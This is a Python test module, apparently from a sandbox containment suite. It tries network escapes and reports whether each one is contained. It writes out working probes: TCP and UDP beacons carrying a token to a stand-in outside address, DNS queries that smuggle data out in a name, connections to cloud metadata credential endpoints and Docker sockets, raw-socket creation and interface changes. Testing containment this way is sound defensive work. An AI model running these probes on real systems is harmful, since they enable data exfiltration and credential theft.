"""Programs that talk to the host, to other machines, or to services of either."""

from __future__ import annotations

import fcntl
import os
import socket
import struct

from attack import attempt, given, hostile, loot, refuse, uncontained

WAIT_S = 1.0
VSOCK = 40


def hello(family, kind, address, where="host"):
    """Connect, say who it was, and wait for the answer."""
    with socket.socket(family, kind) as talk:
        talk.settimeout(WAIT_S)
        talk.connect(address)
        talk.send(given("token").encode())
        return where


@hostile("network", loose=True)
def tcp():
    """Connects to a service of the host, by every address of the host, and to one outside.

    Contained when no connection comes about and the host's service hears nothing.
    """
    for address in given("addresses"):
        attempt(address, hello, socket.AF_INET, socket.SOCK_STREAM, (address, given("tcp")))
    attempt("outside", hello, socket.AF_INET, socket.SOCK_STREAM, ("198.51.100.1", 443))


@hostile("network", loose=True)
def udp():
    """Sends datagrams to a service of the host, to everybody near, and outside.

    Contained when the host's service hears nothing and no datagram leaves but to its own loopback.
    """
    for address in [*given("addresses"), "198.51.100.1"]:
        if not address.startswith("127."):
            attempt(address, hello, socket.AF_INET, socket.SOCK_DGRAM, (address, given("udp")))

    def shout(address):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as talk:
            talk.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            return talk.sendto(given("token").encode(), (address, given("udp")))

    for address in ("255.255.255.255", "224.0.0.1"):
        if not uncontained():
            attempt(address, shout, address)


@hostile("network", loose=True)
def names_as_messages():
    """Asks name servers for a name that carries a message out.

    Contained when no question leaves.
    """
    label = given("token").encode()
    question = struct.pack(">6H", 7, 256, 1, 0, 0, 0) + bytes([len(label)]) + label + b"\x07invalid\0\0\1\0\1"

    def ask(address, port):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as talk:
            return talk.sendto(question, (address, port))

    for address in given("addresses"):
        if not address.startswith("127."):
            attempt(address, ask, address, given("udp"))
    attempt("outside", ask, "198.51.100.53", 53)
    attempt("the resolver", socket.getaddrinfo, given("token") + ".invalid", 80)


@hostile("network")
def metadata_service():
    """Connects to the addresses where clouds hand out credentials, and asks nothing.

    Contained when no connection comes about.
    """
    for address, port in (("169.254.169.254", 80), ("169.254.170.2", 80), ("100.100.100.200", 80)):
        if not uncontained():
            attempt(address, hello, socket.AF_INET, socket.SOCK_STREAM, (address, port), address)
    attempt("by version 6", hello, socket.AF_INET6, socket.SOCK_STREAM, ("fd00:ec2::254", 80, 0, 0))


@hostile("network")
def ipv6():
    """Uses the newer protocol, which filters forget: the host, its neighbours, mapped addresses.

    Contained when no connection comes about and the host's service hears nothing.
    """
    for address in ("::1", *(f"::ffff:{address}" for address in given("addresses"))):
        attempt(address, hello, socket.AF_INET6, socket.SOCK_STREAM, (address, given("tcp6"), 0, 0))
    attempt("neighbours", hello, socket.AF_INET6, socket.SOCK_DGRAM, ("ff02::1", given("tcp6"), 0, 1))
    attempt("outside", hello, socket.AF_INET6, socket.SOCK_STREAM, ("2001:db8::1", 443, 0, 0))


@hostile("network", loose=True)
def unix_sockets():
    """Connects to sockets in the file system: one of the host's, and those of its services.

    Contained when none is found.
    """
    attempt("decoy", hello, socket.AF_UNIX, socket.SOCK_STREAM, given("unix"))
    for path in ("/run/systemd/private", "/run/dbus/system_bus_socket", "/dev/log", "/run/snapd.socket"):
        attempt(path, hello, socket.AF_UNIX, socket.SOCK_STREAM, path)
    if given("unix") and os.path.exists("/run"):
        for folder, _, files in os.walk("/run"):
            for name in files:
                path = os.path.join(folder, name)
                if not uncontained():
                    attempt(path, hello, socket.AF_UNIX, socket.SOCK_STREAM, path)


@hostile("network")
def engine_socket():
    """Looks for the socket of a container engine, which would give it the host.

    Contained when there is none.
    """
    places = ("/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock")
    for path in places:
        attempt(path, os.stat, path)
    attempt("by TCP", hello, socket.AF_INET, socket.SOCK_STREAM, ("172.17.0.1", 2375))
    attempt("on loopback", hello, socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 2375))


@hostile("network", loose=True)
def abstract_sockets():
    """Connects to sockets that have a name but no file, the host's own and those of container shims.

    Contained when none is to be seen.
    """
    attempt("decoy", hello, socket.AF_UNIX, socket.SOCK_STREAM, "\0" + given("abstract"))

    def seen():
        with open("/proc/net/unix", encoding="ascii", errors="replace") as file:
            found = [line.split()[-1] for line in file if "@" in line]
        refuse(not found, "none")
        return found[:3]

    attempt("listing", seen)


@hostile("network", "syscalls")
def raw_sockets():
    """Opens sockets that see or forge any packet.

    Contained when the kernel refuses to make them.
    """
    wanted = {
        "icmp": (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
        "any protocol": (socket.AF_INET, socket.SOCK_RAW, 255),
        "raw version 6": (socket.AF_INET6, socket.SOCK_RAW, 58),
        "packets": (socket.AF_PACKET, socket.SOCK_RAW, 0x0300),
        "cooked packets": (socket.AF_PACKET, socket.SOCK_DGRAM, 0x0300),
    }
    for name, kind in wanted.items():
        attempt(name, socket.socket, *kind)


@hostile("network")
def ping():
    """Sends an echo request through the socket that needs no right.

    Contained when it does not leave.
    """
    for address in given("addresses"):
        if address.startswith("127."):
            continue

        def send(address=address):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as talk:
                return talk.sendto(struct.pack(">BBHHH", 8, 0, 0xF7FF, 0, 0), (address, 0))

        attempt(address, send)


@hostile("network", "syscalls")
def new_interfaces():
    """Changes its interfaces, adds an address, opens a tunnel device.

    Contained when all of it is refused and there is no interface but loopback.
    """
    talk = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    name = struct.pack("16s16x", b"lo")
    flags = struct.unpack("16sH14x", fcntl.ioctl(talk, 0x8913, name))[1]
    attempt("flags as they are", fcntl.ioctl, talk, 0x8914, struct.pack("16sH14x", b"lo", flags))
    attempt("/dev/net/tun", os.open, "/dev/net/tun", os.O_RDWR)

    def address(kind):
        body = struct.pack("BBBBI", 2, 32, 0, 254, 1) + struct.pack("HH4s", 8, 2, bytes((127, 53, 53, 53)))
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as kernel:
            kernel.send(struct.pack("IHHII", 16 + len(body), kind, 0x605 if kind == 20 else 5, 1, 0) + body)
            code = struct.unpack("i", kernel.recv(4096)[16:20])[0]
        if code:
            raise OSError(-code, os.strerror(-code))
        return "done"

    if attempt("another address", address, 20):
        address(21)

    def interfaces():
        found = [name for _, name in socket.if_nameindex() if name != "lo"]
        refuse(not found, "lo alone")
        return found

    attempt("interfaces", interfaces)


@hostile("network")
def rare_families():
    """Opens sockets of every family but the common ones, several of which know no network namespace.

    Contained when none can be made but those that stay inside.
    """
    for family in sorted(set(range(3, 46)) - {socket.AF_INET6, socket.AF_NETLINK, socket.AF_PACKET, VSOCK}):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            attempt(f"family {family} kind {int(kind)}", socket.socket, family, kind)


@hostile("network")
def hypervisor_socket():
    """Opens a socket to the hypervisor (vsock), which belongs to no network namespace; connects to nothing.

    Contained when it cannot be made.
    """
    attempt("vsock", socket.socket, VSOCK, socket.SOCK_STREAM)


@hostile("network")
def open_door():
    """Listens on every address, and looks where it could be reached from.

    Contained when it has no address but loopback.
    """
    with socket.create_server(("0.0.0.0", 0)) as door:
        port = door.getsockname()[1]
        for address in given("addresses"):
            if not address.startswith("127."):
                attempt(address, hello, socket.AF_INET, socket.SOCK_STREAM, (address, port))
    for path in ("/proc/net/tcp", "/proc/net/arp", "/proc/net/route", "/proc/net/fib_trie"):
        loot(path, 400)
